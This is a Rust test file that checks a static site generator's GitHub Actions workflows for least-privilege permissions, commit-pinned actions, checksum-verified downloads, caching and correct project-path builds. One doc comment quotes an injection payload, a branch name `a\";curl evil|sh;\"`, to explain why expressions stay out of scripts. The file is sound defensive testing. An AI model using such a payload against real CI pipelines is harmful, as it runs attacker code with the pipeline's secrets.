//! The GitHub Pages workflow: valid YAML, the official Pages actions, `check` before `build`,
//! and its build command really builds the site under a project sub-path.

use briefing::yaml::{self, Yaml};
use std::path::Path;

fn get<'a>(y: &'a Yaml, key: &str) -> &'a Yaml {
    match y {
        Yaml::Map(entries) => entries
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v)
            .unwrap_or_else(|| panic!("no `{key}`")),
        _ => panic!("not a mapping looking for `{key}`"),
    }
}

fn steps(job: &Yaml) -> Vec<&Yaml> {
    match get(job, "steps") {
        Yaml::List(items) => items.iter().collect(),
        _ => panic!("steps is not a list"),
    }
}

fn text<'a>(y: &'a Yaml, key: &str) -> Option<&'a str> {
    match y {
        Yaml::Map(entries) => entries
            .iter()
            .find(|(k, _)| k == key)
            .and_then(|(_, v)| match v {
                Yaml::Str(s) => Some(s.as_str()),
                _ => None,
            }),
        _ => None,
    }
}

#[test]
fn the_pages_workflow_checks_builds_and_deploys_with_the_official_actions() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let src = std::fs::read_to_string(repo.join(".github/workflows/pages.yml")).unwrap();
    let wf = yaml::parse(&src, 0).expect("the workflow is valid YAML");
    // Rights per job: building reads, only deploying writes Pages.
    assert_eq!(get(&wf, "permissions"), &Yaml::Map(Vec::new()));
    let jobs = get(&wf, "jobs");
    let build_perms = get(get(jobs, "build"), "permissions");
    assert_eq!(text(build_perms, "contents"), Some("read"));
    assert_ne!(text(build_perms, "pages"), Some("write"));
    let deploy_perms = get(get(jobs, "deploy"), "permissions");
    assert_eq!(text(deploy_perms, "pages"), Some("write"));
    assert_eq!(text(deploy_perms, "id-token"), Some("write"));
    // Rebuilt every hour: a scheduled brief appears within the hour of its time.
    let Yaml::List(crons) = get(get(&wf, "on"), "schedule") else {
        panic!("no schedule")
    };
    assert_eq!(text(&crons[0], "cron"), Some("5 * * * *"));
    let build = steps(get(jobs, "build"));
    let deploy = steps(get(jobs, "deploy"));
    let uses: Vec<&str> = build
        .iter()
        .chain(&deploy)
        .filter_map(|s| text(s, "uses"))
        .collect();
    for action in [
        "actions/checkout@",
        "actions/configure-pages@",
        "actions/upload-pages-artifact@",
        "actions/deploy-pages@",
        "actions/cache@",
    ] {
        assert!(
            uses.iter().any(|u| u.starts_with(action)),
            "{action} not used: {uses:?}"
        );
    }
    let runs: Vec<&str> = build.iter().filter_map(|s| text(s, "run")).collect();
    let check = runs
        .iter()
        .position(|r| r.contains("-- check"))
        .expect("runs briefing check");
    let build_i = runs
        .iter()
        .position(|r| r.contains("-- build"))
        .expect("runs briefing build");
    assert!(check < build_i, "check runs before build");
    let cmd = runs[build_i];
    assert!(cmd.contains("--base-url \"$BASE_URL/\""), "{cmd}");
    editions_are_printed(&build, cmd);
    assert!(runs[check].contains("--format github"), "{}", runs[check]);
    assert!(cmd.contains("--locked"), "{cmd}");
    let upload = build
        .iter()
        .find(|s| text(s, "uses").is_some_and(|u| u.starts_with("actions/upload-pages-artifact")))
        .unwrap();
    assert_eq!(text(get(upload, "with"), "path"), Some("public"));
    photos_are_cached_before_the_build(&build);

    // Run the same build command, with the values GitHub gives a project site.
    let step = build.iter().find(|s| text(s, "run") == Some(cmd)).unwrap();
    let (_tmp, out) = run_workflow_build(step);
    let home = std::fs::read_to_string(out.join("index.html")).unwrap();
    assert!(
        home.contains("href=\"/briefing/articles/"),
        "links carry the project sub-path"
    );
    assert!(home.contains("<link rel=\"canonical\" href=\"https://someone.github.io/briefing/\">"));
    assert!(out.join(".nojekyll").exists());
    let about = std::fs::read_to_string(out.join("about/index.html")).unwrap();
    assert!(
        about.contains("<a href=\"https://github.com/someone/briefing/edit/main/content/about.md\">编辑本页</a>"),
        "every page links to its source on GitHub"
    );
}

/// A Pages workflow prints the editions (`--pdf`), keeping the PDFs, with a Chinese font.
fn editions_are_printed(build: &[&Yaml], cmd: &str) {
    assert!(cmd.contains("build --pdf"), "{cmd}");
    let at = |pred: &dyn Fn(&Yaml) -> bool| build.iter().position(|s| pred(s));
    let cache = at(&|s| {
        text(s, "uses").is_some_and(|u| u.starts_with("actions/cache@"))
            && text(get(s, "with"), "path") == Some("~/.cache/briefing/pdf")
    })
    .expect("the PDFs are cached");
    assert_eq!(
        text(get(build[cache], "with"), "restore-keys"),
        Some("briefing-pdf-")
    );
    let fonts = at(&|s| {
        text(s, "run").is_some_and(|r| r.contains("install") && r.contains("fonts-noto-cjk"))
    })
    .expect("a CJK font is installed");
    assert_eq!(
        text(build[fonts], "if"),
        Some("hashFiles('content/_editions/**') != ''")
    );
    let build_at = at(&|s| text(s, "run") == Some(cmd));
    assert!(build_at > Some(cache.max(fonts)));
}

/// A Pages workflow keeps resized photos (briefing's cache folder on Linux) between runs,
/// keyed by the photos, restored before the build.
fn photos_are_cached_before_the_build(build: &[&Yaml]) {
    let at = |pred: &dyn Fn(&Yaml) -> bool| build.iter().position(|s| pred(s));
    let cache = at(&|s| {
        text(s, "uses").is_some_and(|u| u.starts_with("actions/cache@"))
            && text(get(s, "with"), "path") == Some("~/.cache/briefing")
    })
    .expect("a cache step for ~/.cache/briefing");
    let with = get(build[cache], "with");
    let key = text(with, "key").unwrap();
    assert!(
        key.starts_with("briefing-photos-${{ hashFiles('content/**/*.jpg'")
            && key.contains("'content/**/*.png'")
            && key.contains("'content/**/*.webp'"),
        "{key}"
    );
    assert_eq!(text(with, "restore-keys"), Some("briefing-photos-"));
    let build_at = at(&|s| text(s, "run").is_some_and(|r| r.contains("build"))).unwrap();
    assert!(cache < build_at, "the cache is restored before the build");
}

/// Run a workflow step's `cargo run … -- build …` command on this repository, with the values
/// GitHub gives a project site (its `env:` filled, then the script's variables); returns the
/// output folder (and what keeps it alive).
fn run_workflow_build(step: &Yaml) -> (tempfile::TempDir, std::path::PathBuf) {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut vars: Vec<(String, String)> = vec![
        ("GITHUB_SERVER_URL".into(), "https://github.com".into()),
        ("GITHUB_REPOSITORY".into(), "someone/briefing".into()),
    ];
    if let Yaml::Map(env) = get(step, "env") {
        for (k, v) in env {
            if let Yaml::Str(v) = v {
                vars.push((k.clone(), expand(v)));
            }
        }
    }
    let mut cmd = text(step, "run").unwrap().to_string();
    // Longest names first, so that `$BASE_URL` is not taken for `$BASE`.
    vars.sort_by_key(|(k, _)| std::cmp::Reverse(k.len()));
    for (k, v) in &vars {
        cmd = cmd.replace(&format!("${k}"), v);
    }
    assert!(!cmd.contains('$'), "a value left unfilled: {cmd}");
    let args: Vec<String> = cmd
        .split(" -- ")
        .nth(1)
        .unwrap()
        .split_whitespace()
        .map(|a| a.trim_matches('"').to_string())
        .collect();
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    let mut all: Vec<&str> = args.iter().map(String::as_str).collect();
    all.extend(["--out", out.to_str().unwrap()]);
    let run = crate::common::run_in(repo, &all);
    assert_eq!(run.code, 0, "{}", run.stderr);
    (tmp, out)
}

/// The GitHub expressions the workflows use, as GitHub fills them for a project site.
fn expand(value: &str) -> String {
    value
        .replace(
            "${{ steps.pages.outputs.base_url }}",
            "https://someone.github.io/briefing",
        )
        .replace("${{ github.repository_owner }}", "someone")
        .replace("${{ github.event.repository.name }}", "briefing")
        .replace("${{ github.ref_name }}", "main")
}

fn load(path: &Path) -> Yaml {
    let src = std::fs::read_to_string(path).unwrap();
    yaml::parse(&src, 0).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn list<'a>(y: &'a Yaml, key: &str) -> Vec<&'a Yaml> {
    match get(y, key) {
        Yaml::List(items) => items.iter().collect(),
        other => panic!("`{key}` is not a list: {other:?}"),
    }
}

#[test]
fn the_pull_request_workflow_checks_and_uploads_a_preview_but_never_deploys() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let wf = load(&repo.join(".github/workflows/preview.yml"));
    assert!(matches!(
        get(get(&wf, "on"), "pull_request"),
        Yaml::Null | Yaml::Map(_)
    ));
    let perms = get(&wf, "permissions");
    assert_eq!(text(perms, "contents"), Some("read"));
    assert!(
        !matches!(perms, Yaml::Map(e) if e.iter().any(|(k, _)| k == "pages")),
        "no Pages rights"
    );
    let check = steps(get(get(&wf, "jobs"), "check"));
    let runs: Vec<&str> = check.iter().filter_map(|s| text(s, "run")).collect();
    assert!(runs[0].contains("check --format github"), "{runs:?}");
    // A preview shows what is scheduled too (marked 未发布).
    assert!(
        runs[1].contains("build --future --format github"),
        "{runs:?}"
    );
    let uses: Vec<&str> = check.iter().filter_map(|s| text(s, "uses")).collect();
    assert!(
        uses.iter()
            .any(|u| u.starts_with("actions/upload-artifact@")),
        "{uses:?}"
    );
    assert!(!uses.iter().any(|u| u.contains("deploy-pages")), "{uses:?}");
    // Its build command builds this repository's site under the project path.
    let step = check
        .iter()
        .find(|s| text(s, "run") == Some(runs[1]))
        .unwrap();
    let (_tmp, out) = run_workflow_build(step);
    assert!(
        std::fs::read_to_string(out.join("index.html"))
            .unwrap()
            .contains("href=\"/briefing/articles/")
    );
}

#[test]
fn the_release_workflow_attaches_binaries_to_the_tag_release() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let wf = load(&repo.join(".github/workflows/release.yml"));
    let tags = list(get(get(&wf, "on"), "push"), "tags");
    assert_eq!(tags, [&Yaml::Str("v*".into())]);
    assert_eq!(get(&wf, "permissions"), &Yaml::Map(Vec::new()));
    let build = get(get(&wf, "jobs"), "build");
    assert_eq!(text(get(build, "permissions"), "contents"), Some("write"));
    let targets: Vec<&str> = list(get(get(build, "strategy"), "matrix"), "include")
        .iter()
        .filter_map(|m| text(m, "target"))
        .collect();
    assert!(targets.contains(&"x86_64-unknown-linux-gnu"), "{targets:?}");
    let runs: Vec<&str> = steps(build).iter().filter_map(|s| text(s, "run")).collect();
    assert!(
        runs.iter().any(|r| r.contains("gh release upload")),
        "{runs:?}"
    );
    assert!(
        runs.iter()
            .any(|r| r.contains("cargo build --locked --release")),
        "{runs:?}"
    );
    // A checksum beside each archive; a published binary is never replaced.
    assert!(
        runs.iter()
            .any(|r| r.contains("sha256sum \"$file\" > \"$file.sha256\"")),
        "{runs:?}"
    );
    assert!(!runs.iter().any(|r| r.contains("--clobber")), "{runs:?}");
}

/// What every workflow (this repository's, and those `briefing init` writes) must hold: each
/// action pinned to a commit, and no GitHub expression inside a script (a branch or tag name
/// such as `a\";curl evil|sh;\"` would run); values come in through `env:`.
#[test]
fn every_workflow_pins_its_actions_and_keeps_expressions_out_of_scripts() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("portal");
    let run = crate::common::run_in(tmp.path(), &["init", site.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut files: Vec<std::path::PathBuf> = [
        "pages.yml",
        "preview.yml",
        "release.yml",
        "links.yml",
        "mirror.yml",
    ]
    .iter()
    .map(|f| repo.join(".github/workflows").join(f))
    .collect();
    files.extend(
        ["pages.yml", "preview.yml", "links.yml", "mirror.yml"]
            .iter()
            .map(|f| site.join(".github/workflows").join(f)),
    );
    for file in &files {
        let wf = load(file);
        let Yaml::Map(jobs) = get(&wf, "jobs") else {
            panic!("{}: no jobs", file.display())
        };
        for (name, job) in jobs {
            for step in steps(job) {
                if let Some(uses) = text(step, "uses") {
                    let sha = uses.split_once('@').map_or("", |(_, r)| r);
                    assert!(
                        sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()),
                        "{}: {name}: `{uses}` is not pinned to a commit",
                        file.display()
                    );
                }
                if let Some(run) = text(step, "run") {
                    assert!(
                        !run.contains("${{"),
                        "{}: {name}: an expression in a script: {run}",
                        file.display()
                    );
                }
            }
        }
    }
    // Workflows that build fetch the whole history: milestones' history comes from it (a
    // shallow clone builds with a `no-history` warning).
    for file in files.iter().filter(|f| !f.ends_with("release.yml")) {
        let wf = load(file);
        let Yaml::Map(jobs) = get(&wf, "jobs") else {
            panic!("{}: no jobs", file.display())
        };
        for (name, job) in jobs {
            for step in steps(job) {
                if text(step, "uses").is_some_and(|u| u.starts_with("actions/checkout@")) {
                    assert_eq!(
                        get(get(step, "with"), "fetch-depth"),
                        &Yaml::Int(0),
                        "{}: {name}: checkout without `fetch-depth: 0`",
                        file.display()
                    );
                }
            }
        }
    }
    // The binary the content-only workflows download is checked before it runs.
    for wf in ["pages.yml", "preview.yml"] {
        let src = std::fs::read_to_string(site.join(".github/workflows").join(wf)).unwrap();
        let check = src
            .find("sha256sum --check --strict")
            .expect("a checksum check");
        assert!(check < src.find("tar xzf").unwrap(), "{wf}");
    }
}

#[test]
fn a_cname_in_static_is_published() {
    let site = crate::common::TestSite::new();
    site.file(
        "content/a.md",
        &crate::common::article("甲", "2026-01-01", "[ecology]"),
    );
    site.file("static/CNAME", "briefing.example.cn\n");
    site.build().ok();
    assert_eq!(site.read("CNAME"), "briefing.example.cn\n");
}

/// Workflow `name` as this repository has it and as `briefing init` writes it (the folder
/// holding the latter is returned first: it lives as long as it).
fn here_and_from_init(name: &str) -> (tempfile::TempDir, [std::path::PathBuf; 2]) {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("portal");
    let run = crate::common::run_in(tmp.path(), &["init", site.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let files = [
        repo.join(".github/workflows").join(name),
        site.join(".github/workflows").join(name),
    ];
    (tmp, files)
}

/// The weekly link check, here and in what `briefing init` writes: it runs `check --links`
/// with last week's answers kept, and writes its report into one issue, with the rights for
/// that and no more.
#[test]
fn the_link_workflow_checks_weekly_and_keeps_one_issue() {
    let (_tmp, files) = here_and_from_init("links.yml");
    for file in files {
        let wf = load(&file);
        let Yaml::List(crons) = get(get(&wf, "on"), "schedule") else {
            panic!("{}: no schedule", file.display())
        };
        assert_eq!(text(&crons[0], "cron"), Some("30 1 * * 1"));
        assert_eq!(get(&wf, "permissions"), &Yaml::Map(Vec::new()));
        let job = get(get(&wf, "jobs"), "links");
        let perms = get(job, "permissions");
        assert_eq!(text(perms, "issues"), Some("write"));
        assert_eq!(text(perms, "contents"), Some("read"));
        let runs: Vec<&str> = steps(job).iter().filter_map(|s| text(s, "run")).collect();
        assert!(
            runs.iter()
                .any(|r| r.contains("check --links > links-report.txt")),
            "{runs:?}"
        );
        let issue = runs
            .iter()
            .find(|r| r.contains("gh issue"))
            .expect("an issue step");
        assert!(
            issue.contains("gh issue edit") && issue.contains("gh issue create"),
            "{issue}"
        );
        let cached = steps(job)
            .into_iter()
            .filter(|s| text(s, "uses").is_some_and(|u| u.starts_with("actions/cache@")))
            .any(|s| text(get(s, "with"), "path") == Some("~/.cache/briefing/links.json"));
        assert!(cached, "{}: last week's answers kept", file.display());
    }
}

/// The second host, here and in what `briefing init` writes: each target switched on by its
/// repository variable, its keys from secrets through the environment, rclone checked against
/// its release's checksums before it is installed, and the build published as built.
#[test]
fn the_mirror_workflow_publishes_only_where_it_is_switched_on() {
    let (_tmp, files) = here_and_from_init("mirror.yml");
    for file in files {
        let wf = load(&file);
        assert_eq!(get(&wf, "permissions"), &Yaml::Map(Vec::new()));
        let job = get(get(&wf, "jobs"), "publish");
        assert_eq!(
            text(job, "if"),
            Some("vars.PUBLISH_SERVER == 'true' || vars.PUBLISH_BUCKET == 'true'")
        );
        assert_eq!(text(get(job, "permissions"), "contents"), Some("read"));
        let steps = steps(job);
        let step = |needle: &str| {
            *steps
                .iter()
                .find(|s| text(s, "run").is_some_and(|r| r.contains(needle)))
                .unwrap_or_else(|| panic!("{}: no step runs {needle}", file.display()))
        };
        let server = step("publish server");
        assert_eq!(text(server, "if"), Some("vars.PUBLISH_SERVER == 'true'"));
        assert_eq!(
            text(get(server, "env"), "SSH_KEY"),
            Some("${{ secrets.PUBLISH_SSH_KEY }}")
        );
        assert!(
            text(server, "run")
                .unwrap()
                .contains("StrictHostKeyChecking=yes")
        );
        let bucket = step("publish bucket");
        assert_eq!(text(bucket, "if"), Some("vars.PUBLISH_BUCKET == 'true'"));
        assert_eq!(
            text(get(bucket, "env"), "RCLONE_S3_SECRET_ACCESS_KEY"),
            Some("${{ secrets.PUBLISH_BUCKET_SECRET }}")
        );
        let install = text(step("rclone.sha256"), "run").unwrap();
        assert!(
            install.find("sha256sum --check").unwrap() < install.find("install -m 755").unwrap(),
            "{install}"
        );
        let build = steps
            .iter()
            .position(|s| text(s, "run").is_some_and(|r| r.contains(" build")))
            .unwrap();
        let first_publish = steps
            .iter()
            .position(|s| text(s, "run").is_some_and(|r| r.contains("publish ")))
            .unwrap();
        assert!(build < first_publish);
    }
}
